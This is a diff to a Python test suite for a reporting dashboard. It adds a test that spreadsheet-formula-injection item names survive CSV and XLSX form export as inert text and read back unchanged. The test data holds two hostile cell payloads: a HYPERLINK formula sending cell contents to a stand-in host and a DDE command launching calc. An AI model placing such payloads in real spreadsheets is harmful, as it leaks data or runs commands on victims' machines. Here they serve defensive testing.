@@ -2,6 +2,7 @@
 journalled like any figure, kept by a rebuild, a backup and a restore, judged by reporting,
 listed on the detail page and in the exports (issue 15, rule 6)."""
 
+import csv
 import io
 import json
 import shutil
@@ -428,6 +429,44 @@ def test_the_fill_in_form_lists_the_items_and_reads_back_as_items(empty_ws, fmt)
     assert stored == [("二七区实验学校", 7, 2.0, "已建成", date(2026, 8, 31))]
     schools = progress.loc["new_schools"]
     assert (schools["items_total"], schools["items_done"]) == (2, 2)
+
+
+HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "@SUM(1+1)*cmd|' /C calc'!A0"]
+
+
+@pytest.mark.parametrize("engine", ["duckdb"], indirect=True)
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_the_form_carries_item_names_as_text_and_reads_them_back(empty_ws, fmt):
+    """An item an upload named =HYPERLINK(...) was a live formula in the department's
+    form (an .xlsx formula cell, a CSV cell Excel runs). Written with a leading ', it
+    must still read back as the same item, not a new one."""
+    from dashboard.services import exporting
+
+    named = csv_bytes([HEADER, *[[SCHOOL, n, "2026年6月", "推进中", "年底"] for n in HOSTILE]])
+    with open_store(empty_ws) as con:
+        upload(con, empty_ws, named)
+        targets = reporting.targets(con, 2026)
+        items = reporting.items(con, 2026, 7)
+    mine = targets[targets["id"] == "new_schools"]
+    data, _ = exporting.fill_in_template(mine, 2026, 7, fmt, ["市教育局"], items)
+    if fmt == "xlsx":
+        book = openpyxl.load_workbook(io.BytesIO(data))
+        cells = [c for r in book["填报"].iter_rows() for c in r if c.value is not None]
+        assert [c.coordinate for c in cells if c.data_type == "f"] == []
+        values = book["填报"].iter_rows(min_row=2, values_only=True)
+        rows = [[("" if v is None else v) for v in r] for r in values]
+    else:
+        rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
+    listed = [r[2] for r in rows[1:] if r[0] == "new_schools"]
+    assert listed == ["'" + n for n in HOSTILE]
+    back = csv_bytes([rows[0], *[[*r[:4], "已完成", *r[5:]] for r in rows[1:]]])
+    with open_store(empty_ws) as con:
+        pv, _ = upload(con, empty_ws, back, "back.csv")
+        assert pv.ok, [p.line() for p in pv.problems]
+        stored = con.execute(
+            "SELECT DISTINCT item FROM figures WHERE item IS NOT NULL ORDER BY item"
+        ).fetchall()
+    assert stored == [(n,) for n in sorted(HOSTILE)]
 
 
 @pytest.mark.parametrize("engine", ["duckdb"], indirect=True)  # the command line's output
